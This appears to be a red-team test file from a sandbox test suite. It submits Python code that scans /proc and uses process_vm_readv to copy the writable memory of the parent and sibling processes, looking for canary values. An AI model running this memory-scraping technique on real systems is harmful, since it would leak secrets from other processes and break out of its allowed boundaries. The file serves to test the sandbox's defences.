"""System calls for debuggers copy the memory of the parent and its siblings.

Success: any canary.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.first(
        SHOW
        + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

class Part(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]

for pid in {os.getppid(), *(int(n) for n in os.listdir("/proc") if n.isdigit() and n != "1")}:
    try:
        areas = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError:
        continue
    for line in areas:
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if " rw" in line and end - start < 1 << 26 and pid != os.getpid():
            store = ctypes.create_string_buffer(end - start)
            here, there = Part(ctypes.addressof(store), end - start), Part(start, end - start)
            if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                show(store.raw)
"""
    )
